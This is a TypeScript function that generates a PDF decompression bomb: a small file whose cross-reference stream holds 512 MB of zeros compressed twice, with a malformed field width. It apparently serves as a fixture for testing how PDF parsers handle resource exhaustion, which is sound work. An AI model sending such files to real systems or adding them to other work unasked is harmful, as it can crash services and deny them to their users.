import { deflateSync } from 'node:zlib';

/**
 * Returns a PDF of one kilobyte with a cross-reference table of 512 MB of zeros, compressed twice.
 */
export const pdfBomb = (): Buffer => {
  const packed = deflateSync(deflateSync(Buffer.alloc(512 * 1024 * 1024)));
  const head = `%PDF-1.5
1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj
2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>> endobj
`;
  const table = `5 0 obj <</Type/XRef/Size 6/Index[0 6]/W[1 4 80000000]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]/Length ${packed.length}>>
stream
`;
  const end = `
endstream endobj
startxref
${Buffer.byteLength(head)}
%%EOF
`;
  return Buffer.concat([Buffer.from(head + table), packed, Buffer.from(end)]);
};
